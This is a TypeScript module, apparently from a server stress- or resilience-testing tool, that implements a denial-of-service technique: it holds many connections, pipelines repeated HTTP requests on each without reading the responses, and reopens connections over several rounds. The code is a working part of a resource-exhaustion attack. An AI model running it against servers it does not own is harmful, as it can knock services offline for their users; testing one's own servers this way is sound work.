import type { Socket } from "node:net";
import { type AttackContext, requestOf } from "./attack.ts";
import { type Counts, holdConnections, noCounts } from "./raw-connections.ts";

/** How often connections are reopened. A socket that is not read does not detect a close. */
const ROUNDS = 4;
const MAX_ATTEMPTS = 10_000;
const LISTEN_MS = 200;

export type Unread = { connections: number; addresses: number; pipelined: number; path: string };

/** Pipelines many requests on each connection and does not read the responses. */
export async function pipelineUnread({ port, isTls, durationMs }: AttackContext, plan: Unread): Promise<Counts> {
  const counts = noCounts();
  const requests = Buffer.from(requestOf(plan.path).repeat(plan.pipelined), "latin1");
  const use = (socket: Socket, abandon: () => void): void => {
    counts.requests += plan.pipelined;
    socket.write(requests);
    const timer = setTimeout(() => listenOnce(socket, abandon), durationMs / ROUNDS);
    socket.once("close", () => clearTimeout(timer));
  };
  const { connections, addresses } = plan;
  const over = new AbortController();
  await holdConnections({
    ...{
      port,
      isTls,
      connections,
      addresses,
      maxAttempts: MAX_ATTEMPTS,
      durationMs,
      over,
      counts,
      reading: false,
      use,
    },
  });
  return counts;
}

/** Starts reading for a short time, to distinguish an open connection from a refused one. */
function listenOnce(socket: Socket, abandon: () => void): void {
  socket.once("data", abandon);
  socket.resume();
  const timer = setTimeout(abandon, LISTEN_MS);
  socket.once("close", () => clearTimeout(timer));
}
